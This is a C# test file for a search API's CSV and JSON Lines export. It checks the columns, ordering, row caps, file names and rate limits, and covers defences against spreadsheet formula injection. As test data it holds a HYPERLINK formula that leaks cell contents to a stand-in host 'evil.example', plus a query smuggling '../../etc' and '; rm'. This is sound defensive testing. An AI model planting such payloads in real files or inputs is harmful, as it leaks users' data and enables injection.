using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using SearchService.Api.Tests.Conformance;
using SearchService.Api.Tests.TestSupport;

namespace SearchService.Api.Tests.FollowAndExport;

/// <summary>Issue 13 §5 through the real HTTP pipeline: every hit of a search as CSV or JSON Lines.</summary>
public sealed class ExportTests(FollowApiFactory factory) : IClassFixture<FollowApiFactory>
{
    /// <summary>The columns README and docs/export.md promise, in order.</summary>
    private static readonly string[] DocumentedColumns =
        ["id", "type", "kind", "documentId", "title", "date", "department", "url", "score", "actors", "nations", "paragraph", "speaker", "snippet"];

    private readonly HttpClient _client = factory.CreateClient();

    // Python's csv module reads the file as Excel would be told to (utf-8-sig drops the BOM); rows come back as lists.
    private const string ReadCsv = """
        import csv, io, json, sys
        data = sys.stdin.buffer.read()
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
        print(json.dumps({"bom": data[:3] == b"\xef\xbb\xbf", "rows": rows}))
        """;

    /// <summary>Every hit of a search, paged with its cursor as a client would.</summary>
    private async Task<List<JsonElement>> AllSearchHits(string query)
    {
        var hits = new List<JsonElement>();
        string? cursor = null;
        do
        {
            var page = await _client.GetFromJsonAsync<JsonElement>($"/api/search?{query}&pageSize=100&facets=department" + (cursor is null ? "" : "&cursor=" + cursor));
            hits.AddRange(page.GetProperty("hits").EnumerateArray());
            cursor = page.GetProperty("nextCursor").GetString();
        }
        while (cursor is not null);
        return hits;
    }

    private async Task<List<JsonElement>> ExportLines(string query)
    {
        var response = await _client.GetAsync($"/api/export?format=jsonl&{query}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/jsonl", response.Content.Headers.ContentType?.MediaType);
        var text = await response.Content.ReadAsStringAsync();
        Assert.EndsWith("\n", text, StringComparison.Ordinal);
        return text.TrimEnd('\n').Split('\n').Select(line => JsonDocument.Parse(line).RootElement.Clone()).ToList();
    }

    [SkippableFact]
    public async Task CsvIsUtf8WithBomRfc4180TheDocumentedColumnsAndEveryHitInTheSearchsOrder()
    {
        Skip.If(OutsidePython.PythonSkipReason is not null, OutsidePython.PythonSkipReason);
        var response = await _client.GetAsync("/api/export?q=kelp&format=csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var parsed = await OutsidePython.RunPythonAsync(ReadCsv, bytes);
        Assert.True(parsed.GetProperty("bom").GetBoolean());
        var rows = parsed.GetProperty("rows").EnumerateArray().Select(r => r.EnumerateArray().Select(c => c.GetString()!).ToArray()).ToList();
        Assert.Equal(DocumentedColumns, rows[0]);
        Assert.All(rows, row => Assert.Equal(DocumentedColumns.Length, row.Length));
        // Every record ends CRLF, including the last; the only bare LF or CR are inside quoted cells.
        Assert.EndsWith("\r\n", Encoding.UTF8.GetString(bytes), StringComparison.Ordinal);

        var hits = await AllSearchHits("q=kelp");
        Assert.Equal(hits.Count, int.Parse(response.Headers.GetValues("X-Total-Count").Single(), System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(hits.Select(h => h.GetProperty("id").GetString()), rows.Skip(1).Select(r => r[0]));
        foreach (var (hit, row) in hits.Zip(rows.Skip(1)))
        {
            Assert.Equal(hit.GetProperty("documentId").GetString(), row[3]);
            Assert.Equal(hit.GetProperty("date").GetString(), row[5]);
            Assert.Equal(hit.GetProperty("department").GetString() ?? "", row[6]);
            Assert.Equal(string.Join("; ", hit.GetProperty("actors").EnumerateArray().Select(a => a.GetString())), row[9]);
            // The snippet as text: no <mark>, entities decoded, so "&" and a literal "<b>" read as written.
            var snippet = row[13];
            Assert.DoesNotContain("<mark>", snippet, StringComparison.Ordinal);
            Assert.DoesNotContain("&amp;", snippet, StringComparison.Ordinal);
            Assert.Equal(WebUtility.HtmlDecode(hit.GetProperty("snippet").GetString()!.Replace("<mark>", "").Replace("</mark>", "")), snippet.TrimStart('\''));
        }
        Assert.Contains(rows, r => r[13].Contains("farmers & fishers", StringComparison.Ordinal) && r[13].Contains("<b>bold</b>", StringComparison.Ordinal));
    }

    [SkippableFact]
    public async Task CellsThatASpreadsheetWouldRunAsFormulasArePrefixedWithAnApostrophe()
    {
        Skip.If(OutsidePython.PythonSkipReason is not null, OutsidePython.PythonSkipReason);
        var bytes = await _client.GetByteArrayAsync("/api/export?q=kelp&format=csv");
        var text = Encoding.UTF8.GetString(bytes);
        // Quoted (it has commas and quotes), quotes doubled, and the apostrophe inside the quotes, before the '='.
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click, here\"\")\"", text, StringComparison.Ordinal);
        var rows = (await OutsidePython.RunPythonAsync(ReadCsv, bytes)).GetProperty("rows").EnumerateArray()
            .Select(r => r.EnumerateArray().Select(c => c.GetString()!).ToArray()).Skip(1).ToList();
        foreach (var title in FollowDocuments.FormulaTitles)
            Assert.Contains(rows, r => r[4] == "'" + title);
        Assert.Contains(rows, r => r[4].StartsWith("Kelp & chips", StringComparison.Ordinal));
        // No cell of the file starts with a formula character.
        Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0]));
    }

    [Fact]
    public async Task JsonLinesAreTheSearchsHitsOnePerLineEachASearchHitOfTheServedDocument()
    {
        using var documentClient = factory.CreateClient();
        var conformance = new OpenApiConformance(await documentClient.GetStringAsync("/openapi/v1.json"));
        foreach (var query in new[] { "q=kelp&type=paragraphs", "q=ceasefire&type=quotes", "q=kelp&type=paragraphs&collapse=true", "q=S%C3%A9bastien&sort=oldest" })
        {
            var lines = await ExportLines(query);
            var hits = await AllSearchHits(query);
            Assert.NotEmpty(hits);
            Assert.Equal(hits.Select(h => h.GetRawText()), lines.Select(l => l.GetRawText()));
            Assert.All(lines, line => Assert.Null(conformance.CheckComponent("SearchHit", line)));
        }
    }

    [Theory]
    [InlineData("newest")]
    [InlineData("oldest")]
    [InlineData("relevance")]
    public async Task AnExportLongerThanAPageHasEveryHitOnceInTheSearchsOrder(string sort)
    {
        var query = $"q={FollowDocuments.Lighthouse}&sort={sort}";
        var lines = await ExportLines(query);
        Assert.Equal(FollowDocuments.LighthouseLogs, lines.Count);
        Assert.Equal(lines.Count, lines.Select(l => l.GetProperty("id").GetString()).Distinct().Count());
        Assert.Equal((await AllSearchHits(query)).Select(h => h.GetProperty("id").GetString()), lines.Select(l => l.GetProperty("id").GetString()));
        var dates = lines.Select(l => l.GetProperty("date").GetString()!).ToList();
        if (sort == "oldest") Assert.Equal(dates.Order(StringComparer.Ordinal), dates);
        else Assert.Equal(dates.OrderDescending(StringComparer.Ordinal), dates);
    }

    [Fact]
    public async Task TheCapLimitsTheRowsAndTheTotalSaysHowManyMatch()
    {
        await using var capped = new FollowApiFactory().With("SearchService:ExportMaxRows", "700");
        var client = capped.CreateClient();
        var response = await client.GetAsync($"/api/export?q={FollowDocuments.Lighthouse}&format=csv&sort=newest");
        Assert.Equal("1200", response.Headers.GetValues("X-Total-Count").Single());
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(1 + 700, lines.Length);
        Assert.StartsWith("lighthouse-1200,", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("lighthouse-0501,", lines[^1], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("q=kelp&format=csv", "press-releases-kelp.csv", "press-releases-kelp.csv")]
    [InlineData("format=jsonl", "press-releases-all.jsonl", "press-releases-all.jsonl")]
    [InlineData("q=S%C3%A9bastien%20Lecornu&format=jsonl", "press-releases-sebastien-lecornu.jsonl", "press-releases-sébastien-lecornu.jsonl")]
    [InlineData("q=title%3A%22kelp%22%20-%22..%2F..%2Fetc%22%20%3B%20rm", "press-releases-title-kelp-etc-rm.csv", "press-releases-title-kelp-etc-rm.csv")]
    [InlineData("q=%CE%B5%CE%B9%CF%81%CE%AE%CE%BD%CE%B7", "press-releases-all.csv", "press-releases-ειρήνη.csv")]
    public async Task TheDownloadIsNamedAfterTheQuery(string query, string fileName, string fileNameStar)
    {
        var response = await _client.GetAsync("/api/export?" + query);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var disposition = response.Content.Headers.ContentDisposition!;
        Assert.Equal("attachment", disposition.DispositionType);
        Assert.Equal(fileName, disposition.FileName);
        Assert.Contains($"filename=\"{fileName}\"", response.Content.Headers.GetValues("Content-Disposition").Single(), StringComparison.Ordinal);
        Assert.Equal(fileNameStar, disposition.FileNameStar);
    }

    [Theory]
    [InlineData("format=xml", "format")]
    [InlineData("format=jsonl&type=bogus", "type")]
    [InlineData("format=csv&sort=best", "sort")]
    [InlineData("q=%22kelp", "q")]
    [InlineData("to=2025-13-45", "to")]
    public async Task BadParametersAre400NamingThemBeforeAnyOfTheFileIsSent(string query, string parameter)
    {
        var response = await _client.GetAsync("/api/export?" + query);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentDisposition);
        Assert.True(JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors").TryGetProperty(parameter, out _));
    }

    [Fact]
    public async Task FeedAndExportAreRateLimitedWithSearch()
    {
        using var limited = new SeedApiFactory()
            .With("SearchService:RateLimit:PermitsPerSecond", "0.01")
            .With("SearchService:RateLimit:Burst", "3");
        var client = limited.CreateClient();
        var statuses = new List<HttpStatusCode>();
        foreach (var path in new[] { "/api/search?q=peace", "/api/feed?q=peace", "/api/export?q=peace", "/api/export?q=peace&format=jsonl", "/api/feed?q=peace" })
            statuses.Add((await client.GetAsync(path)).StatusCode);
        Assert.Equal([HttpStatusCode.OK, HttpStatusCode.OK, HttpStatusCode.OK, HttpStatusCode.TooManyRequests, HttpStatusCode.TooManyRequests], statuses);
    }
}
